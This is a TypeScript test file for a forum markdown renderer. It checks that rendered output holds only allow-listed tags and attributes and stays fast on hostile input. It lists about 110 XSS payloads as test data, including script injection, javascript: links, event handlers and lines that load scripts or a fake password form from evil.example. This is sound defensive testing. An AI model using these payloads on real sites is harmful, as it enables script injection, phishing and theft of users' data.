import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./render-markdown.ts";

/** What may be in the output, written down apart from the code that lets it through. */
const ALLOWED: Record<string, Record<string, RegExp>> = {
  p: { class: /^post-quote-source$/ },
  br: {},
  hr: {},
  h3: {},
  h4: {},
  h5: {},
  h6: {},
  ul: {},
  ol: { start: /^\d{1,9}$/ },
  li: {},
  blockquote: { class: /^post-quote$/, cite: /^\/threads\/[^/]+\/replies\/[^/]+$/ },
  pre: { tabindex: /^0$/ },
  code: {},
  em: {},
  strong: {},
  s: {},
  a: { href: /^(?:https?:\/\/|mailto:|\/(?![/\\]))/i, rel: /^nofollow ugc noopener$/ },
  div: { class: /^post-table$/, role: /^group$/, "aria-label": /^Table$/, tabindex: /^0$/ },
  table: {},
  thead: {},
  tbody: {},
  tr: {},
  th: { scope: /^col$/ },
  td: {},
};
const VOID = new Set(["br", "hr"]);
const NEXT = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)( \/)?>|[^<>]+/y;

/**
 * Reads HTML by the narrowest grammar there is: every angle bracket belongs to a plain tag, every attribute is quoted, every tag is
 * closed in order. What passes is read alike by every browser. Gives what is wrong, or undefined.
 */
function faultIn(html: string): string | undefined {
  const open: string[] = [];
  NEXT.lastIndex = 0;
  while (NEXT.lastIndex < html.length) {
    const at = NEXT.lastIndex;
    const match = NEXT.exec(html);
    if (!match) return `no plain HTML at ${html.slice(at, at + 80)}`;
    const [whole, closing, tag, attributes = "", selfClosing = ""] = match;
    if (tag === undefined) continue;
    const fault = faultInTag(tag, attributes, closing === "/");
    if (fault) return `${fault} in ${whole}`;
    if (VOID.has(tag) !== (selfClosing !== "")) return `${whole} neither open nor closed`;
    if (tag === "a" && closing === "" && open.includes("a")) return "a link in a link";
    if (closing === "/" && open.pop() !== tag) return `${whole} out of order`;
    if (closing === "" && !VOID.has(tag)) open.push(tag);
  }
  if (open.length > 0) return `${open.join(", ")} left open`;
  return /&(?!(?:amp|lt|gt|quot);)/.test(html) ? "an entity that is not needed" : undefined;
}

function faultInTag(tag: string, attributes: string, closing: boolean): string | undefined {
  const rules = ALLOWED[tag];
  if (!rules) return "a tag that is not allowed";
  for (const [, name = "", value = ""] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
    if (!rules[name]?.test(value)) return `attribute ${name}`;
  }
  return tag === "a" && !closing && !attributes.includes(" rel=") ? "no rel" : undefined;
}

const HTML_PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  '<img src="https://evil.example/pixel.gif">',
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  '<audio src="https://evil.example/a.mp3" autoplay>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style><!--</style><script>alert(1)//--></script>",
  '<div style="background:url(https://evil.example/x)">',
  '<p style="position:fixed;inset:0">cover</p>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "<body onload=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a id="main-content" name="location" class="nhsuk-button">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<textarea></p><script>alert(1)</script>",
  "<xmp><script>alert(1)</script></xmp>",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  "</div></main></body><h1>Taken over</h1>",
  "<dialog open>Sign in again</dialog>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "\u003cscript\u003ealert(1)\u003c/script\u003e",
  "＜script＞alert(1)＜/script＞",
  "<\u0000script>alert(1)</script>",
];

const MARKDOWN_PAYLOADS = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](java%0ascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](https://evil.example/pixel.gif)",
  "![x](//evil.example/pixel.gif)",
  '![x](https://evil.example/a.png "onerror=alert(1)")',
  '![x](x"onerror="alert(1))',
  '[x](https://example.org/"onmouseover="alert(1))',
  "[x](https://example.org 'a\" onclick=\"alert(1)')",
  '[x](https://example.org "</a><script>alert(1)</script>")',
  "[x](//evil.example/path)",
  "[x](/\\evil.example/path)",
  "[x](/&#92;evil.example)",
  "[x](\\\\evil.example\\share)",
  "[x](file:///etc/passwd)",
  "[x](blob:https://example.org/1)",
  "[x](ftp://evil.example)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  '<https://example.org/"onclick="alert(1)>',
  "<https://example.org/\u202egnp.exe>",
  "https://example.org/<script>alert(1)</script>",
  'https://example.org/"onmouseover=alert(1)',
  "[x]: javascript:alert(1)\n\n[x]",
  '```"><script>alert(1)</script>\nx\n```',
  '```js" onload="alert(1)\nx\n```',
  "`<script>alert(1)</script>`",
  "    <script>alert(1)</script>",
  "# <img src=x onerror=alert(1)>",
  "# x {#main-content .nhsuk-header onclick=alert(1)}",
  "> <script>alert(1)</script>",
  '> [x](/threads/1/replies/2"onclick="alert(1))',
  '> [x](/threads/<b>/replies/"><script>)',
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | </table> |",
  "- <details open ontoggle=alert(1)>\n  - </li></ul>",
  "1234567890123. x",
  "@[<script>alert(1)</script>](person:0192e4a0-7c3b-7def-8abc-0123456789ab)",
  '@["onclick="alert(1)](person:0192e4a0-7c3b-7def-8abc-0123456789ab)',
  '@[x](person:0192e4a0-7c3b-7def-8abc-0123456789ab"onclick=)',
  "@[x](javascript:alert(1))",
  "[a]([b](javascript:alert(1)))",
  "[![x](javascript:alert(1))](javascript:alert(2))",
  "*<b*>",
  "a\u2028<script>\u2029alert(1)",
  "mailto:x@example.org?body=<script>",
  '[x](mailto:a@example.org"onclick="alert(1))',
  "[x](https://example.org/\u0000javascript:alert(1))",
  "[x](https:evil.example)",
  "[x](http:/\\evil.example)",
];

describe("attacks", () => {
  it("are many", () => {
    expect(HTML_PAYLOADS.length + MARKDOWN_PAYLOADS.length).toBeGreaterThanOrEqual(100);
  });

  it.each([...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS])("%j comes out harmless wherever it stands", (payload) => {
    for (const markdown of [
      payload,
      `text ${payload} text`,
      `> ${payload}`,
      `- ${payload}`,
      `**${payload}**`,
      `[${payload}](https://example.org)`,
      `| a |\n|---|\n| ${payload} |`,
      `${payload}\n${payload}`,
    ]) {
      expect(faultIn(renderMarkdown(markdown).html)).toBeUndefined();
    }
  });

  it.each(HTML_PAYLOADS)("%j makes no tag at all", (payload) => {
    const tags = renderMarkdown(payload).html.match(/<[^>]*>/g) ?? [];
    for (const tag of tags)
      expect(tag).toMatch(
        /^<(?:\/?(?:p|pre|code)(?: tabindex="0")?|br \/|a href="https:[^"]*" rel="[^"]*"|\/a)>$/,
      );
  });

  it("are told by the test when the renderer lets them through", () => {
    for (const html of [
      "<script>1</script>",
      '<p onclick="1">x</p>',
      '<a href="javascript:1" rel="nofollow ugc noopener">x</a>',
      '<a href="https://x">x</a>',
      '<a href="//x" rel="nofollow ugc noopener">x</a>',
      "<p>x",
      "<em><p>x</em></p>",
      "<p id=x>x</p>",
      '<img src="/a" />',
      "a < b",
      "&nbsp;",
    ]) {
      expect(faultIn(html)).toBeDefined();
    }
  });
});

describe("whatever is typed", () => {
  const piece = fc.oneof(
    fc.constantFrom(...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS),
    fc.constantFrom(
      "\n",
      "\n\n",
      "> ",
      "- ",
      "1. ",
      "# ",
      "    ",
      "\t",
      "**",
      "*",
      "_",
      "~~",
      "`",
      "```",
      "|",
      "|---|",
      "[",
      "](",
      ")",
      "![",
      "<",
      ">",
      "&",
      '"',
      "'",
      "\\",
      "@[",
      "https://",
      "mailto:",
      "//",
      "javascript:",
      "=",
      "---",
    ),
    fc.string({ unit: "grapheme", maxLength: 12 }),
    fc.string({ unit: "binary", maxLength: 12 }),
  );

  it("gives allowed tags, balanced, with allowed attributes", () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        expect(faultIn(renderMarkdown(pieces.join("")).html)).toBeUndefined();
      }),
      { numRuns: 1_500, seed: 20_241_104 },
    );
  });

  it("gives text without markup of its own, and the same each time", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary" }), (markdown) => {
        const once = renderMarkdown(markdown);
        expect(renderMarkdown(markdown)).toEqual(once);
        expect(once.text).toBe(once.text.trim());
      }),
    );
  });
});

describe("hostile input", () => {
  const units = [
    "[",
    "![",
    "[a](",
    "[a](((",
    "*a_ ",
    "**_",
    "*",
    "`a``",
    "> ",
    ">",
    "- ",
    "  - a\n",
    "<a",
    "<http://",
    "https://",
    "https://a.b/(((",
    "http://example.com/***",
    "a@b.c",
    "&",
    "\\",
    "|a",
    "|a|\n|-|\n",
    "~~a~",
    "[*",
    "# \n",
    "@[a](person:",
    "@[",
    "a\n\n",
    "_a__ ",
    "[a]: /b\n[a]",
    "\u0301",
    "&#8238;",
    "www.",
    "[](/a)",
    "![](/a)",
    "# a\n",
    "> [a](/threads/a/replies/b)\n\n",
  ];
  const upTo = (unit: string, length: number) =>
    unit.repeat(Math.ceil(length / unit.length)).slice(0, length);

  it.each(units)("%j, a hundred thousand characters of it, gives output in proportion", (unit) => {
    const before = process.cpuUsage();
    const { html } = renderMarkdown(upTo(unit, 100_000));
    const seconds = process.cpuUsage(before).user / 1_000_000;
    expect(html.length).toBeLessThan(100_000 * 40);
    // What grows with the square of the length takes a minute or more.
    expect(seconds).toBeLessThan(8);
  });

  it.each(["https://a.b/(((", "~~a~", "|a", "www.", "a@b.c", "["])(
    "%j in words just short enough to be searched for addresses",
    (unit) => {
      const before = process.cpuUsage();
      renderMarkdown(`${upTo(unit, 1_990)} `.repeat(50));
      expect(process.cpuUsage(before).user / 1_000_000).toBeLessThan(8);
    },
  );

  it("nests no deeper than a page can bear", () => {
    for (const unit of ["> ", "- ", "> - ", "[", "**a "]) {
      const depth = deepest(renderMarkdown(upTo(unit, 10_000) + "x").html);
      expect(depth).toBeLessThan(40);
    }
  });

  it("cannot make a large page of a small text by repeating a reference", () => {
    const markdown = `[a]: https://example.org/${"b".repeat(1_500)}\n\n${"[a] ".repeat(2_000)}`;
    expect(renderMarkdown(markdown).html.length).toBeLessThan(markdown.length * 3);
  });

  function deepest(html: string): number {
    let depth = 0;
    let most = 0;
    for (const [tag] of html.matchAll(/<[^>]*>/g)) {
      if (tag.endsWith("/>")) continue;
      depth += tag.startsWith("</") ? -1 : 1;
      most = Math.max(most, depth);
    }
    return most;
  }
});
